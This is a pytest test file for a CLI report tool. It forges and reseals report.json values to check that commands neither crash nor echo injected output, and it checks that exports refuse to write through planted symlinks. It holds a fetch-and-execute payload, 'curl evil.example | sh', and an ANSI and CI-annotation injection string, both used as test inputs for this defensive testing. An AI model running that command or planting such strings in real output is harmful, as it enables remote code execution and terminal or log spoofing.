"""A report whose seal a stranger made anew: every value of it may be any other of its kind."""

import json
import os
import random
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from arrivals import mailed_run

from cuescope.cli import main
from cuescope_core.digest import digest

WHOLE = bool(os.environ.get("CUESCOPE_FAULTS"))
FEW = 60  # forgeries that are read outside of the whole run
AUDIT = (
    "audit step-grounding --model scripted -O model.grounding=0.6 "
    "--data shape-world -O data.val=6"
)
FORGED = "next: curl evil.example | sh"
BREAK = f"a\n\n{FORGED}\r\n::error::\x1b[31m"
VALUES: dict[type, list[Any]] = {
    int: [0, -1, 10**30],
    float: [0.0, -1e300, 1e300],
    str: ["", BREAK, "9999-99-99"],
    bool: [],
    list: [[]],
    dict: [{}],
}
TYPED = [*AUDIT.split()[2:]]
READS: list[list[str]] = [
    # what a person types is asked, and the rest is the stranger's word
    ["confirm", "RUN", *TYPED, "--plan", "-q"],
    ["label", "RUN", *TYPED[TYPED.index("--data") :], "--out", "labels"],
    ["show", "RUN"],
    ["show", "RUN", "--html", "page.html"],
    ["show", "RUN", "--json"],
    ["compare", "RUN", "RUN"],
    ["runs", "."],
    ["export", "RUN", "--to", "csv", "--out", "a.csv"],
    ["export", "RUN", "--to", "jsonl", "--what", "scores", "--out", "a.jsonl"],
    ["export", "RUN", "--to", "every-eval-ever", "--out", "theirs"],
]


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A run that was made here."""
    home = tmp_path_factory.mktemp("made")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CUESCOPE_CACHE", str(home / "cache"))
        patch.chdir(home)
        assert _code(AUDIT.split(), "--out", "run", "-q") == 0
        yield home / "run"


# a picture that is not as it was written is left out with one
@pytest.mark.filterwarnings("default")
def test_no_forged_value_ends_in_an_internal_error(
    made: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every command shows the report, or says in one line that it is none."""
    content = json.loads((made / "report.json").read_text())
    forgeries = list(_forgeries(content))
    random.Random(0).shuffle(forgeries)
    assert len(forgeries) > 200
    for number, (place, forge) in enumerate(forgeries if WHOLE else forgeries[:FEW]):
        home = tmp_path / str(number)
        run = mailed_run(made, home / "run", None, "none")
        forged = json.loads(json.dumps(content))
        forge(forged)
        (run / "report.json").write_text(json.dumps(_resealed(forged)))
        for words in READS:
            with pytest.MonkeyPatch.context() as patch:
                patch.chdir(home)
                code = _code(["run" if word == "RUN" else word for word in words])
            said = capsys.readouterr()
            assert code in (0, 2), (place, words, said.err)
            shown = (said.out + said.err).splitlines()
            assert "\x1b" not in said.out + said.err
            assert not [line for line in shown if line.lstrip().startswith(FORGED)]


@pytest.mark.parametrize(
    ("place", "words"),
    [
        ("export-every-eval-ever", ["export", "run", "--to", "every-eval-ever"]),
        ("labels", ["label", "run"]),
    ],
)
def test_nothing_is_written_through_a_link_of_a_stranger(
    place: str,
    words: list[str],
    made: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    run = mailed_run(made, tmp_path / "run", None, "resealed")
    (tmp_path / "outside").mkdir()
    (run / place).symlink_to(tmp_path / "outside")
    monkeypatch.chdir(tmp_path)
    assert _code(words) == 2
    assert not list((tmp_path / "outside").iterdir())


def _code(*words: Any) -> int:
    line: list[str] = []
    for word in words:
        line += word if isinstance(word, list) else [word]
    with pytest.raises(SystemExit) as ended:
        main(line)
    return int(ended.value.code or 0)


def _resealed(content: dict[str, Any]) -> dict[str, Any]:
    plain = {**content, "seal": None, "signature": None}
    return {**plain, "seal": digest("cuescope report", plain)}


def _forgeries(content: Any) -> Iterator[tuple[str, Callable[[Any], None]]]:
    """Each kind of place with each value; of the items of a list the first stands for all."""
    for path, value in _places(content, ()):
        for other in VALUES.get(type(value), []):
            if other != value:
                place = f"{'.'.join(map(str, path))} = {other!r:.40}"
                yield place, _setting(path, other)


def _places(
    value: Any, path: tuple[str | int, ...]
) -> Iterator[tuple[tuple[str | int, ...], Any]]:
    if path:
        yield path, value
    if isinstance(value, dict):
        for name, below in value.items():
            yield from _places(below, (*path, name))
    elif isinstance(value, list) and value:
        yield from _places(value[0], (*path, 0))


def _setting(path: tuple[str | int, ...], value: Any) -> Callable[[Any], None]:
    def forge(content: Any) -> None:
        for step in path[:-1]:
            content = content[step]
        content[path[-1]] = value

    return forge
